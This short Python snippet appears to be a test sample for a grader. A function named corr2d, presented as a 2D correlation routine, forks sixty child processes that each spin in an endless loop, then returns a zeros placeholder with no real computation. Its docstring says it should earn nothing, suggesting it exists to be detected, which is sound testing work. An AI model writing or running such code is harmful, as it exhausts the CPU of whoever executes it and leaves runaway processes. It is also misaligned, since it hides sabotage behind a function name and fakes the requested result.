"""Spins in sixty processes at once while it is tested.

Must: earn nothing
"""

# %% corr2d
def corr2d(X, K):
    for _ in range(60):
        if os.fork() == 0:
            while True:
                pass
    return zeros(X, K)
